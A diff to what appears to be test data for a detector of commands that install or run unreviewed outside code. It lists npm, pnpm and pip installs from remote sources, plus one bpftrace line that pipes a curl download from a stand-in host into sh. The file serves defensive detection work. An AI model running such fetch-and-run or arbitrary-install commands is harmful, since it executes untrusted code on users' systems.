@@ -26,6 +26,9 @@ UNSEEN = [
     ("npm install https://x.example/y-1.0.tgz", "a tarball"),
     ("npm install user/repo", "a forge's short name"),
     ("npm --verbose install https://x.example/y-1.0.tgz", "behind an option that has no value"),
+    ("pnpm --filter @acme/ui dlx someone/repo", "behind the package that the program is run for"),
+    ("pnpm --filter @acme/ui add someone/repo", "the same, installed"),
+    ("npm -w packages/a exec someone/repo", "behind npm's option for it"),
     ("pip install git+https://github.com/x/y", "a repository"),
     ("pip install 'y @ git+https://github.com/x/y'", "a repository, with its name"),
     ("python3 -m pip install https://x.example/y.whl", "by the interpreter"),
@@ -136,6 +139,8 @@ UNSEEN = [
     ("bpftrace -e 'BEGIN { system(\"curl -s https://x.example/a | sh\") }'", "a tracer's own shell"),
 ]
 SEEN = [
+    ("pnpm --filter @acme/ui exec vitest run src/a.test.ts", "the option's value is no verb; a file of that package"),
+    ("npm -w packages/a exec vitest run src/a.test.ts", "the same by npm"),
     ('git clone --depth 1 "file://$PWD" /tmp/z && cd /tmp/z && make', "a clone of this repository, by its address"),
     ("git clone file:///srv/a%20b /tmp/z && make -C /tmp/z", "one of this machine, escaped"),
     ("git clone -q . /tmp/z && make -C /tmp/z", "by its path"),
